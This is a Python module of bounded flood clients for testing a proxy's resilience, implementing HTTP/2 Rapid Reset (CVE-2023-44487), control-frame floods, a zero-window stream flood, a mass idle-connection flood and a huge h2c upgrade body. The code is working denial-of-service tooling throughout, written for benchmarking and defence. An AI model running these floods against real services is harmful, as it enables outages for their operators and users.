"""Flood clients for benchmarks and tests: HTTP/2 abuse, idle connections, a huge h2c-upgrade body.

    python -m planemesh.labs.attacks KIND --host ADDR --port PORT [--seconds S] [--connections N] [--path P]

KIND is one of ATTACKS. Run it inside a pod's namespace (`ip netns exec`): it prints one JSON line, an
Outcome: what was really sent (whole frames / bytes handed to the kernel) and what the proxy did (each
connection's close, seen as EOF, reset or FIN, with the seconds since it started; GOAWAY codes read).
Every attack is bounded by --seconds and by its connection count; it only talks to --host.
The frames come from labs/h2_frames.py (pure builders); the I/O here is one poll loop per attack.
"""

from __future__ import annotations

import argparse
import errno
import json
import resource
import select
import socket
import struct
import sys
import time
from collections import Counter, deque
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass, field

from planemesh.labs import h2_frames as f

BATCH_PAIRS = 50  # rapid reset: HEADERS+RST_STREAM pairs per send
BATCH_FRAMES = 256  # control floods: frames per send
STREAM_BATCH = 100  # stream flood: HEADERS per send
BODY_CHUNK = 64 * 1024  # h2c upgrade: body bytes per send
PUMP_ROUNDS = 64  # sends per connection before looking at the clock and the poller again
POLL_MS = 20


@dataclass
class Outcome:
    kind: str
    connections: int = 0  # connections that were established and used
    frames_sent: int = 0  # whole frames handed to the kernel (HTTP/2 kinds)
    bytes_sent: int = 0
    seconds: float = 0.0  # how long the attack ran
    closed_after_s: list[float] = field(default_factory=list)  # per connection the proxy closed, since it began
    close_how: dict[str, int] = field(default_factory=dict)  # eof / fin / reset -> connections
    goaway: dict[str, int] = field(default_factory=dict)  # GOAWAY error code name -> count received
    rst_received: dict[str, int] = field(default_factory=dict)  # RST_STREAM error code name -> count received
    responses: dict[str, int] = field(default_factory=dict)  # h2: HEADERS received; h1: status lines seen
    connect_failed: int = 0
    notes: dict[str, int | float] = field(default_factory=dict)

    @property
    def closed(self) -> int:
        return len(self.closed_after_s)

    def to_json(self) -> str:
        return json.dumps({**asdict(self), "closed": self.closed})


Batch = tuple[bytes, int]  # bytes to send, whole frames they carry


class Conn:
    """One attacking connection: batches from `source` sent until the kernel pushes back, incoming bytes (when
    `read`) handed to `on_data`; `closed_how` once the peer closed or reset it."""

    def __init__(self, sock: socket.socket, source: Iterator[Batch], read: bool,
                 on_data: Callable[[Conn, bytes], None] | None = None) -> None:  # fmt: skip
        sock.setblocking(False)
        self.sock, self.source, self.read, self.on_data = sock, source, read, on_data
        self.started = time.monotonic()
        self.queue: deque[Batch] = deque()
        self.view: memoryview | None = None
        self.frames_in_view = 0
        self.frames_sent = self.bytes_sent = 0
        self.closed_how: str | None = None
        self.closed_at = 0.0
        self.exhausted = False

    def push(self, data: bytes, frames: int = 0) -> None:
        """Send this after the current batch (e.g. a SETTINGS ACK)."""
        self.queue.append((data, frames))

    def wants_write(self) -> bool:
        return self.view is not None or bool(self.queue) or not self.exhausted

    def _next_view(self) -> bool:
        if self.queue:
            data, self.frames_in_view = self.queue.popleft()
        else:
            nxt = next(self.source, None)
            if nxt is None:
                self.exhausted = True
                return False
            data, self.frames_in_view = nxt
        self.view = memoryview(data)
        return True

    def pump(self) -> None:
        for _ in range(PUMP_ROUNDS):
            if self.view is None and not self._next_view():
                return
            assert self.view is not None
            try:
                n = self.sock.send(self.view)
            except BlockingIOError:
                return
            except OSError as exc:
                self.close_seen("reset" if exc.errno in (errno.ECONNRESET, errno.EPIPE) else f"errno {exc.errno}")
                return
            self.bytes_sent += n
            self.view = self.view[n:]
            if not len(self.view):
                self.frames_sent += self.frames_in_view
                self.view = None

    def on_event(self, events: int) -> None:
        if self.read and events & (select.POLLIN | select.POLLRDHUP | select.POLLHUP | select.POLLERR):
            self._drain()
        elif events & select.POLLERR:
            self.close_seen("reset")
        elif events & (select.POLLRDHUP | select.POLLHUP):
            self.close_seen("fin")  # the client never reads: the peer's FIN is all it sees

    def _drain(self) -> None:
        for _ in range(16):
            try:
                data = self.sock.recv(1 << 16)
            except BlockingIOError:
                return
            except OSError:
                self.close_seen("reset")
                return
            if not data:
                self.close_seen("eof")
                return
            if self.on_data is not None:
                self.on_data(self, data)

    def close_seen(self, how: str) -> None:
        if self.closed_how is None:
            self.closed_how, self.closed_at = how, time.monotonic()


def connect(host: str, port: int, timeout: float = 3.0) -> socket.socket:
    sock = socket.create_connection((host, port), timeout=timeout)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return sock


def drive(conns: list[Conn], seconds: float) -> float:
    """Pump every connection until `seconds` pass or the peer closed them all; returns the time spent."""
    started = time.monotonic()
    deadline = started + seconds
    poller = select.poll()
    registered: dict[int, Conn] = {}
    while time.monotonic() < deadline:
        live = [c for c in conns if c.closed_how is None]
        if not live:
            break
        for c in live:
            c.pump()
        for c in live:
            mask = select.POLLRDHUP | (select.POLLIN if c.read else 0)
            mask |= select.POLLOUT if c.wants_write() else 0
            poller.register(c.sock, mask)
            registered[c.sock.fileno()] = c
        for fd, events in poller.poll(POLL_MS):
            registered[fd].on_event(events)
        for c in live:
            poller.unregister(c.sock)
        registered.clear()
    return time.monotonic() - started


def collect(kind: str, conns: list[Conn], spent: float, outcome: Outcome | None = None) -> Outcome:
    out = outcome or Outcome(kind)
    out.connections, out.seconds = len(conns), round(spent, 3)
    out.frames_sent = sum(c.frames_sent for c in conns)
    out.bytes_sent = sum(c.bytes_sent for c in conns)
    out.closed_after_s = sorted(round(c.closed_at - c.started, 3) for c in conns if c.closed_how)
    out.close_how = dict(Counter(c.closed_how for c in conns if c.closed_how))
    for c in conns:
        c.sock.close()
    return out


class H2Watch:
    """What a reading h2 attacker sees: GOAWAYs, RST_STREAMs, response HEADERS; it ACKs the server's SETTINGS."""

    def __init__(self, outcome: Outcome) -> None:
        self.outcome = outcome
        self.readers: dict[int, f.FrameReader] = {}

    def __call__(self, conn: Conn, data: bytes) -> None:
        reader = self.readers.setdefault(id(conn), f.FrameReader())
        for fr in reader.feed(data):
            self.outcome.notes["frames_received"] = int(self.outcome.notes.get("frames_received", 0)) + 1
            if fr.kind == f.SETTINGS and not fr.flags & f.ACK:
                conn.push(f.settings_ack(), 1)
            elif fr.kind == f.GOAWAY:
                _bump(self.outcome.goaway, f.ERROR_NAMES.get(fr.goaway_code() or 0, "?"))
            elif fr.kind == f.RST_STREAM and len(fr.payload) == 4:
                _bump(self.outcome.rst_received, f.ERROR_NAMES.get(int.from_bytes(fr.payload, "big"), "?"))
            elif fr.kind == f.HEADERS:
                _bump(self.outcome.responses, "headers")
        self.outcome.notes["data_bytes_received"] = sum(r.data_bytes for r in self.readers.values())


def _bump(counts: dict[str, int], key: str) -> None:
    counts[key] = counts.get(key, 0) + 1


# ---- the attacks ---------------------------------------------------------------------------------------------
def rapid_reset(host: str, port: int, seconds: float, connections: int = 2, path: str = "/") -> Outcome:
    """CVE-2023-44487: HEADERS then RST_STREAM(CANCEL) on a new stream, in a tight loop, reading and discarding."""

    def source() -> Iterator[Batch]:
        blocks = f.RequestBlocks(f"{host}:{port}", path)
        yield f.client_preface(), 1
        sid = 1
        while sid + 2 * BATCH_PAIRS < f.MAX_STREAM_ID:
            ids = range(sid, sid + 2 * BATCH_PAIRS, 2)
            sid += 2 * BATCH_PAIRS
            yield f.pairs(ids, blocks), 2 * len(ids)

    out = Outcome("rapid_reset")
    watch = H2Watch(out)
    conns = [Conn(connect(host, port), source(), True, watch) for _ in range(connections)]
    return collect(out.kind, conns, drive(conns, seconds), out)


CONTROL_FRAMES = {  # one frame each flood repeats; none of them is ever answered by a read from this client
    "settings_flood": f.settings({f.SETTINGS_HEADER_TABLE_SIZE: 4096}),  # each one owes the server an ACK
    "ping_flood": f.ping(),  # each one owes a PING ACK
    "window_update_flood": f.window_update(0, 1),  # +1 byte of connection window, no DATA ever asked for
}


def control_flood(kind: str, host: str, port: int, seconds: float, connections: int = 1) -> Outcome:
    one = CONTROL_FRAMES[kind]

    def source() -> Iterator[Batch]:
        yield f.client_preface(), 1
        batch = f.repeat(one, BATCH_FRAMES)
        while True:
            yield batch, BATCH_FRAMES

    conns = [Conn(connect(host, port), source(), read=False) for _ in range(connections)]
    return collect(kind, conns, drive(conns, seconds))


def stream_flood(host: str, port: int, seconds: float, streams: int = 1000, path: str = "/") -> Outcome:
    """`streams` requests for a large response on one connection that grants them a zero window, then held."""

    def source() -> Iterator[Batch]:
        blocks = f.RequestBlocks(f"{host}:{port}", path)
        yield f.client_preface({f.SETTINGS_INITIAL_WINDOW_SIZE: 0}), 1
        for first in range(0, streams, STREAM_BATCH):
            ids = [2 * i + 1 for i in range(first, min(first + STREAM_BATCH, streams))]
            yield b"".join(f.headers(sid, blocks.next()) for sid in ids), len(ids)

    out = Outcome("stream_flood")
    out.notes["streams"] = streams
    conns = [Conn(connect(host, port), source(), True, H2Watch(out))]
    return collect(out.kind, conns, drive(conns, seconds), out)


def h2c_upgrade_body(host: str, port: int, seconds: float, connections: int = 4, path: str = "/") -> Outcome:
    """An `Upgrade: h2c` POST announcing a 1 GiB body, the body pushed as fast as the proxy takes it."""
    length = 1 << 30
    head = (
        f"POST {path} HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: Upgrade, HTTP2-Settings\r\n"
        f"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\nContent-Length: {length}\r\n\r\n"
    ).encode()
    out = Outcome("h2c_upgrade_body")

    def source() -> Iterator[Batch]:
        yield head, 0
        chunk, sent = b"\0" * BODY_CHUNK, 0
        while sent < length:
            yield chunk, 0
            sent += len(chunk)

    def on_data(conn: Conn, data: bytes) -> None:
        if data.startswith(b"HTTP/"):
            _bump(out.responses, data.split(b"\r\n", 1)[0].decode(errors="replace")[:40])

    conns = [Conn(connect(host, port), source(), True, on_data) for _ in range(connections)]
    return collect(out.kind, conns, drive(conns, seconds), out)


CONNECT_WINDOW = 256  # idle flood: connects in flight at once
CONNECT_TIMEOUT_S = 3.0
LINGER_RESET = struct.pack("ii", 1, 0)  # SO_LINGER on, 0 s: close() resets, no TIME_WAIT


def idle_flood(host: str, port: int, seconds: float, connections: int = 10_000) -> Outcome:
    """`connections` TCP connections that never send a byte, opened CONNECT_WINDOW at a time, then held; each
    one's close by the proxy (FIN or reset) is timed from its establishment. notes: `attempted`, `peak_open`,
    `opened_s` (when the last connect was issued; absent if the deadline came first). Held connections are reset
    at the end (SO_LINGER 0): no TIME_WAIT is left in the attacker's netns to slow the next flood's connects."""
    out = Outcome("idle_flood")
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    poller = select.epoll()
    pending: dict[int, tuple[socket.socket, float]] = {}
    held: dict[int, tuple[socket.socket, float]] = {}
    started = time.monotonic()
    deadline, opened, established, peak = started + seconds, 0, 0, 0
    how: Counter[str] = Counter()

    def drop(table: dict[int, tuple[socket.socket, float]], fd: int) -> tuple[socket.socket, float]:
        sock, since = table.pop(fd)
        poller.unregister(fd)
        sock.close()
        return sock, since

    while (now := time.monotonic()) < deadline:
        # The deadline holds inside a window too: a starved attacker reports what it really tried.
        while opened < connections and len(pending) < CONNECT_WINDOW and time.monotonic() < deadline:
            sock = socket.socket(family, socket.SOCK_STREAM)
            sock.setblocking(False)
            opened += 1
            if opened == connections:
                out.notes["opened_s"] = round(time.monotonic() - started, 3)
            if sock.connect_ex((host, port)) not in (0, errno.EINPROGRESS):
                out.connect_failed += 1
                sock.close()
                continue
            poller.register(sock.fileno(), select.EPOLLOUT | select.EPOLLRDHUP)
            pending[sock.fileno()] = (sock, now)
        for fd, events in poller.poll(POLL_MS / 1000):
            now = time.monotonic()
            if fd in pending:
                sock, _ = pending[fd]
                if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                    out.connect_failed += 1
                    drop(pending, fd)
                    continue
                held[fd] = pending.pop(fd)[0], now
                established += 1
                poller.modify(fd, select.EPOLLRDHUP)
                peak = max(peak, len(held))
            if fd in held and events & (select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR):
                _, since = drop(held, fd)
                out.closed_after_s.append(round(now - since, 3))
                how["reset" if events & select.EPOLLERR else "fin"] += 1
        for fd in [fd for fd, (_, since) in pending.items() if now - since > CONNECT_TIMEOUT_S]:
            out.connect_failed += 1
            drop(pending, fd)
    for table in (pending, held):
        for fd in list(table):
            table[fd][0].setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, LINGER_RESET)
            drop(table, fd)
    poller.close()
    out.connections, out.seconds, out.close_how = established, round(time.monotonic() - started, 3), dict(how)
    out.closed_after_s.sort()
    out.notes.update(attempted=opened, peak_open=peak)
    return out


ATTACKS = ("rapid_reset", "settings_flood", "ping_flood", "window_update_flood", "stream_flood", "idle_flood",
           "h2c_upgrade_body")  # fmt: skip


def run(kind: str, host: str, port: int, seconds: float, connections: int | None, path: str) -> Outcome:
    if kind == "rapid_reset":
        return rapid_reset(host, port, seconds, connections or 2, path)
    if kind in CONTROL_FRAMES:
        return control_flood(kind, host, port, seconds, connections or 1)
    if kind == "stream_flood":
        return stream_flood(host, port, seconds, connections or 1000, path)
    if kind == "idle_flood":
        return idle_flood(host, port, seconds, connections or 10_000)
    if kind == "h2c_upgrade_body":
        return h2c_upgrade_body(host, port, seconds, connections or 4, path)
    raise ValueError(f"unknown attack {kind!r}; one of {', '.join(ATTACKS)}")


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("kind", choices=ATTACKS)
    parser.add_argument("--host", required=True)
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--seconds", type=float, default=4.0)
    parser.add_argument("--connections", type=int, help="stream_flood: streams; default per attack")
    parser.add_argument("--path", default="/")
    args = parser.parse_args(argv)
    if args.seconds <= 0 or args.seconds > 60:
        parser.error("--seconds must be in (0, 60]: attacks are bounded")
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, 65536)), hard))
    try:
        outcome = run(args.kind, args.host, args.port, args.seconds, args.connections, args.path)
    except OSError as exc:
        print(json.dumps({"kind": args.kind, "error": f"{type(exc).__name__}: {exc}"}))
        return 1
    print(outcome.to_json())
    return 0


if __name__ == "__main__":
    sys.exit(main())
